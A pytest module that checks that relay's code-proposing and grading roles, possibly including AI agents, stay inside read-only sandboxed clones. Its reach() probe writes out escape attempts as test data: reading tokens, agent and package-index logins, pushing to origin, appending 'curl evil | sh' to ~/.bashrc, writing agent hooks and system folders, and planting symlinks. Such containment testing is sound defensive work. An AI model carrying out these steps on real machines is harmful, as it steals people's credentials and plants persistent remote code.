"""The candidate's code and the roles that grade it run behind the maker's boundary: the
gates (the baseline's and the candidate's, the metric of an optimisation goal) and the
checkers run in standalone clones of relay's own, with the person's clone, its git
directory, its origin and relay's token hidden, the real HOME read-only and no credential
in their environment. What is kept still lands in the person's clone, by relay's hand."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from loop_project import CALC, CALC_MUL, PY, TEST_MUL, Project, make_project
from test_loop_unattended import METRIC, approve, with_cost

import relay
from relay.ratchet.sandbox import NAMESPACES, level

TOKEN = "relay-node-token-7c2d5e"
RELAY_CODE = str(Path(relay.__file__).resolve().parent)
VICTIM = Path(tempfile.gettempdir()) / f"relay-boundary-victim-{os.getpid()}.txt"

needs_namespaces = pytest.mark.skipif(
    level() != NAMESPACES, reason="this machine cannot make user and mount namespaces"
)


@pytest.fixture(autouse=True)
def _quick_pytest(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PYTEST_DISABLE_PLUGIN_AUTOLOAD", "1")


def with_origin_and_token(project: Project, tmp_path: Path) -> tuple[Path, str]:
    """A bare origin the person's clone pushes to, relay's token in the clone's git
    directory; the origin's refs as they are."""
    origin = tmp_path / "origin.git"
    subprocess.run(["git", "init", "-q", "--bare", str(origin)], check=True)
    project.git("remote", "add", "origin", str(origin))
    project.git("push", "-q", "origin", "main")
    token = project.root / ".git" / "relay" / "token"
    token.parent.mkdir(parents=True, exist_ok=True)
    token.write_text(TOKEN + "\n")
    return origin, refs(origin)


def refs(origin: Path) -> str:
    return subprocess.run(
        ["git", "for-each-ref"], cwd=origin, capture_output=True, text=True, check=True
    ).stdout


def reach(project: Project, origin: Path, home: Path, found: Path, who: str) -> str:
    """Python that tries every way out of its box and writes what it reached to ``found``."""
    clone, token = str(project.root), str(project.root / ".git" / "relay" / "token")
    return (
        "import json, os, pathlib, subprocess\n"
        "WORDS = ('TOKEN', 'PASSWORD', 'SECRET')\n"
        "got = {}\n"
        "def wrote(path):\n"
        "    try:\n"
        "        path.write_text('owned')\n"
        "    except OSError:\n"
        "        return False\n"
        "    path.unlink()\n"
        "    return True\n"
        "def ran(*argv, **kw):\n"
        "    return subprocess.run(argv, capture_output=True, text=True, **kw).returncode == 0\n"
        "try:\n"
        f"    got['token'] = pathlib.Path({token!r}).read_text()\n"
        "except OSError:\n"
        "    got['token'] = None\n"
        "got['push_origin'] = ran('env', '-u', 'GIT_ALLOW_PROTOCOL', '-u', 'GIT_CONFIG_COUNT',"
        f" 'git', '-C', {clone!r}, 'push', 'origin', 'HEAD:refs/heads/{who}-1')\n"
        f"got['push_path'] = ran('git', 'push', {str(origin)!r}, 'HEAD:refs/heads/{who}-2')\n"
        f"got['config'] = ran('git', '-C', {clone!r}, 'config', 'relay.owned', '{who}')\n"
        "try:\n"
        f"    with open({str(home / '.bashrc')!r}, 'a') as out:\n"
        "        out.write('curl evil | sh\\n')\n"
        "    got['bashrc'] = True\n"
        "except OSError:\n"
        "    got['bashrc'] = False\n"
        "got['env'] = sorted(k for k in os.environ if any(w in k for w in WORDS))\n"
        # an agent's login and hooks, gh's hosts where GH_CONFIG_DIR puts them, .pypirc
        "def read(path):\n"
        "    try:\n"
        "        return pathlib.Path(path).read_text() or None\n"
        "    except OSError:\n"
        "        return None\n"
        f"got['agent_login'] = read({str(home / '.codex' / 'auth.json')!r})\n"
        f"got['agent_hooks'] = wrote(pathlib.Path({str(home / '.claude' / 'hooks.json')!r}))\n"
        f"got['gh_hosts'] = read({str(home.parent / 'ghconf' / 'hosts.yml')!r})\n"
        f"got['pypirc'] = read({str(home / '.pypirc')!r})\n"
        # a login carried by a variable's value, whatever its name (a URL's password)
        "got['by_value'] = sorted(k for k, v in os.environ.items() if 'hunter2' in v)\n"
        # relay's own code (an editable install), a system folder (as root), and the
        # script a later box's mounts were once read from, swapped for a link
        f"got['relay_code'] = wrote(pathlib.Path({RELAY_CODE!r}) / 'pwned_{who}.py')\n"
        f"got['system'] = wrote(pathlib.Path('/usr/local/bin/relay-pwned-{who}'))\n"
        "try:\n"
        f"    os.symlink({str(VICTIM)!r}, pathlib.Path.cwd().parent / 'enter.sh')\n"
        "except OSError:\n"
        "    pass\n"
        f"pathlib.Path({str(found)!r}).write_text(json.dumps(got))\n"
    )


NOTHING = {
    "agent_login": None,
    "agent_hooks": False,
    "gh_hosts": None,
    "pypirc": None,
    "by_value": [],
    "relay_code": False,
    "system": False,
    "token": None,
    "push_origin": False,
    "push_path": False,
    "config": False,
    "bashrc": False,
    "env": [],
}


def held(project: Project, origin: Path, before: str, home: Path) -> None:
    """Nothing of the person's changed: the origin's refs, the clone's config, HOME."""
    assert refs(origin) == before
    assert "owned" not in (project.root / ".git" / "config").read_text()
    assert (home / ".bashrc").read_text() == "# the person's\n"
    assert VICTIM.read_text() == "the person's file\n"  # no write followed a planted link


@pytest.fixture(autouse=True)
def _victim() -> Iterator[None]:
    VICTIM.write_text("the person's file\n")
    yield
    VICTIM.unlink(missing_ok=True)


@needs_namespaces
def test_a_test_module_the_maker_adds_reaches_nothing_of_the_persons(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A new test module that, at import, reads relay's token, pushes to origin, changes
    the person's git config and appends to ~/.bashrc: none of it happens (the gates run
    it in a sandboxed clone of the candidate), so its own test fails and so does the
    attempt; the person's clone is as it was."""
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# the person's\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("RELAY_TOKEN", TOKEN)
    for name in ("TWINE_PASSWORD", "NPM_TOKEN", "AWS_SECRET_ACCESS_KEY", "ANTHROPIC_API_KEY"):
        monkeypatch.setenv(name, "the-persons-login-5f1e")  # her other logins: not a gate's
    for name, text in {  # her logins on disk: an agent's, gh's (elsewhere), a package index's
        ".codex/auth.json": '{"key": "sk-agent-login"}',
        ".claude/settings.json": "{}",
        ".pypirc": "[pypi]\npassword = pypi-login\n",
        "../ghconf/hosts.yml": "github.com:\n  oauth_token: gho_login\n",
    }.items():
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text(text)
    monkeypatch.setenv("GH_CONFIG_DIR", str(tmp_path / "ghconf"))
    monkeypatch.setenv("PIP_INDEX_URL", "https://me:hunter2@pypi.example.com/simple")
    monkeypatch.setenv("HTTPS_PROXY", "http://me:hunter2@proxy.example:3128")
    project = make_project(tmp_path, retries=0)
    origin, before = with_origin_and_token(project, tmp_path)
    found = tmp_path / "scripts" / "found.json"
    maker_env = tmp_path / "scripts" / "maker-env.json"
    found_net = tmp_path / "scripts" / "found-net.json"
    listening = socket.socket()  # a service of the person's on this machine's loopback
    listening.bind(("127.0.0.1", 0))
    listening.listen()
    port = listening.getsockname()[1]
    module = (
        reach(project, origin, home, found, "gate") + "import socket\n"
        "def connects(port):\n"
        "    try:\n"
        "        socket.create_connection(('127.0.0.1', port), timeout=3).close()\n"
        "        return True\n"
        "    except OSError:\n"
        "        return False\n"
        "own = socket.socket()\n"
        "own.bind(('127.0.0.1', 0))\n"
        "own.listen()\n"
        f"net = {{'host': connects({port}), 'loopback': connects(own.getsockname()[1])}}\n"
        f"pathlib.Path({str(found_net)!r}).write_text(json.dumps(net))\n"
        "\n\n"
        "def test_reached_out():\n"
        "    assert got['token'], 'nothing to take: the box held'\n"
    )
    maker = project.script(
        "maker",
        f"put('src/calc.py', {CALC_MUL!r})\nput('tests/test_mul.py', {TEST_MUL!r})\n"
        f"put('tests/test_zz_reach.py', {module!r})\n"
        # a plain command maker: no agent CLI's key, no login carried by a value
        "import json, os\n"
        f"open({str(maker_env)!r}, 'w').write(json.dumps(sorted(k for k, v in os.environ.items()"
        " if 'API_KEY' in k or 'hunter2' in v)))\n",
    )
    ran = project.loop("run", "--maker", maker)
    assert ran.data["kept"] == [], ran
    # the gate's `git -C <clone> config` writes relay's clone of the candidate, shown at the
    # person's clone's path (held() shows the person's configuration untouched)
    assert (
        json.loads(found.read_text()) == NOTHING
    )  # its git folder is read-only: no config written even there
    assert json.loads(maker_env.read_text()) == []
    held(project, origin, before, home)
    assert not (home / ".claude" / "hooks.json").exists()
    listening.close()
    # the gates have a network of their own: their own loopback works, the host's is not there
    assert json.loads(found_net.read_text()) == {"host": False, "loopback": True}
    failures = project.read("docs/loop/state/failures.md")
    assert "test_reached_out" in failures and TOKEN not in failures
    assert project.read("src/calc.py") == project.git("show", "HEAD:src/calc.py")
    assert project.clean()


@needs_namespaces
def test_a_checker_reaches_nothing_and_a_kept_change_lands_in_the_persons_clone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A checker that tries to push and to read relay's token finds nothing to use (it
    reviews a read-only sandboxed clone of the candidate); its approval stands, and the
    kept change is the person's clone's next commit."""
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# the person's\n")
    monkeypatch.setenv("HOME", str(home))
    project = make_project(tmp_path, retries=0)
    origin, before = with_origin_and_token(project, tmp_path)
    found = tmp_path / "scripts" / "found.json"
    wrote = tmp_path / "scripts" / "wrote.json"
    checker = project.script(
        "checker",
        reach(project, origin, home, found, "checker") + "try:\n"
        "    pathlib.Path('src/calc.py').write_text('owned\\n')\n"
        f"    pathlib.Path({str(wrote)!r}).write_text('true')\n"
        "except OSError:\n"
        f"    pathlib.Path({str(wrote)!r}).write_text('false')\n" + approve("checker"),
    )
    maker = project.script(
        "maker", f"put('src/calc.py', {CALC_MUL!r})\nput('tests/test_mul.py', {TEST_MUL!r})\n"
    )
    ran = project.loop("run", "--maker", maker, "--checker", checker)
    assert [k["goal"] for k in ran.data["kept"]] == ["G1"], ran
    assert json.loads(found.read_text()) == NOTHING  # its clone is read-only: no config
    assert json.loads(wrote.read_text()) is False  # the candidate's clone is read-only to it
    held(project, origin, before, home)
    kept = ran.data["kept"][0]["commit"]
    project.git("merge-base", "--is-ancestor", kept, "main")  # on the person's branch
    assert project.git("log", "-1", "--format=%s", kept).startswith("G1: Multiply")
    assert project.git("show", f"{kept}:src/calc.py") == CALC_MUL
    assert project.read("src/calc.py") == CALC_MUL and project.clean()


@needs_namespaces
def test_an_optimisation_goal_measures_in_sandboxed_clones_and_keeps_in_the_persons(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The optimiser's gates and metric run the candidate's code in sandboxed clones: a
    metric that tries every way out reaches nothing, and the kept change is committed in
    the person's clone."""
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# the person's\n")
    monkeypatch.setenv("HOME", str(home))
    project = make_project(tmp_path, accept=None, retries=1)
    with_cost(project)
    origin, before = with_origin_and_token(project, tmp_path)
    found = tmp_path / "scripts" / "found.json"
    probe = tmp_path / "judges" / "probe.py"  # never in a share: every box writes there
    probe.parent.mkdir()
    probe.write_text(reach(project, origin, home, found, "metric"))
    metric = f"{PY} {probe} && {METRIC}"
    added = project.loop(
        "goal", "add", "Cheaper", "--metric", metric, "--direction", "down", "--threshold", "10"
    )
    assert added.data == {"goal": "G1"}, added
    maker = project.script("maker", 'put("cost.txt", "60\\n")\nprint("IDEA: A lookup table")\n')
    ran = project.loop("run", "--maker", maker)
    assert [k["goal"] for k in ran.data["kept"]] == ["G1"], ran
    # the metric's `git config` writes relay's clone shown at the person's clone's path
    assert (
        json.loads(found.read_text()) == NOTHING
    )  # its git folder is read-only: no config written even there
    held(project, origin, before, home)
    assert project.read("cost.txt") == "60\n" and project.clean()
    assert "cost.txt" in project.git("show", "--name-only", "--format=", "HEAD~1")
    assert project.git("show", "HEAD~1:cost.txt") == "60\n"


def test_the_baselines_gates_run_once_while_its_tree_is_the_same(tmp_path: Path) -> None:
    """Two goals worked from the same tree (the first fails, and relay's bookkeeping is
    all that changes): the contract's gates run once on the baseline, in a clone of
    relay's own, and each goal's acceptance command on its own."""
    project = make_project(tmp_path, retries=0)
    fails = f'{PY} -c "raise SystemExit(1)"'
    assert project.loop("goal", "add", "Never", "--accept", fails).data == {"goal": "G2"}
    maker = project.script("maker", "count('maker')\n")
    ran = project.loop("run", "--maker", maker)
    assert ran.data["kept"] == [] and project.calls("maker") == 2, ran
    logs = sorted((project.root / "docs/loop/state/gates").glob("run-*/*.log"))
    heads = [p.read_text().splitlines()[:3] for p in logs]
    gates = [h[0].removeprefix("gate: ") for h in heads]
    assert gates == ["accept", "test", "lint", "accept", "accept", "accept"], gates
    assert all("/relay-judge-" in h[2] for h in heads), heads


def test_a_candidate_file_linked_to_an_endless_device_is_read_as_nothing(tmp_path: Path) -> None:
    """A source file the maker leaves as a link to /dev/zero: relay never follows it
    (following it would read for ever); a link out of the tree is not taken into the
    person's clone, so the attempt fails, with nothing taken, and the run goes on."""
    project = make_project(tmp_path, retries=0)
    maker = project.script(
        "maker",
        f"put('src/calc.py', {CALC_MUL!r})\nput('tests/test_mul.py', {TEST_MUL!r})\n"
        "pathlib.Path('web').mkdir()\n"
        "os.symlink('/dev/zero', 'web/app.js')\n",
    )
    ran = project.loop("run", "--maker", maker)
    assert ran.status == 0 and ran.data["kept"] == [], ran
    failures = project.read("docs/loop/state/failures.md")
    assert "`web/app.js` is a link to `/dev/zero`" in failures, failures
    assert project.read("src/calc.py") == CALC and project.clean()
